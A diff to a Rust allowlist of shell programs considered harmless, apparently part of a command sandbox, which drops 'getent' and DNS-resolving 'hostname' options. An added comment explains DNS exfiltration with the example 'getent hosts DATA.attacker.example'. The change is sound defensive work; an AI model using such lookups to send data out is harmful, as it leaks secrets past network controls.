@@ -1,7 +1,8 @@
 //! Programs of which the options and the number of operands say everything.
 //!
 //! What is harmless was looked up in the manuals of GNU, util-linux, procps, BSD and busybox. Options that write (`sort -o`), start
-//! programs (`rg --pre`, `sort --compress-program`) or set something (`hostname NAME`) are absent.
+//! programs (`rg --pre`, `sort --compress-program`) or set something (`hostname NAME`) are absent. So is what asks a name server:
+//! a name that is looked up leaves the machine, and can carry anything (`getent hosts DATA.attacker.example`, `hostname -f`).
 
 use super::super::arguments::{Grammar, Stray};
 use super::{Operands, Row};
@@ -180,7 +181,6 @@ pub(super) const PLAIN: &[Row] = &[
         bytes count= giga help human kilo lohi mega seconds= si tera total version wide",
     ),
     row("getconf", Refused, Any, "a", ""),
-    row("getent", Harmless, Any, "s:i", "help no-idn service= version"),
     row(
         "grep",
         Harmless,
@@ -207,14 +207,7 @@ pub(super) const PLAIN: &[Row] = &[
         one-byte-octal skip= two-bytes-decimal two-bytes-hex two-bytes-octal version",
     ),
     row("hostid", Harmless, None, "", "help version"),
-    row(
-        "hostname",
-        Refused,
-        None,
-        "AdfiIsy",
-        "\
-        all-fqdns all-ip-addresses domain fqdn help ip-address long short version",
-    ),
+    row("hostname", Refused, None, "Is", "all-ip-addresses help short version"),
     row("iconv", Refused, Any, "f:t:lcs", "from-code= help list silent to-code= version"),
     row("id", Harmless, Any, "aGgnruzZ", "context group groups help name real user version zero"),
     row(
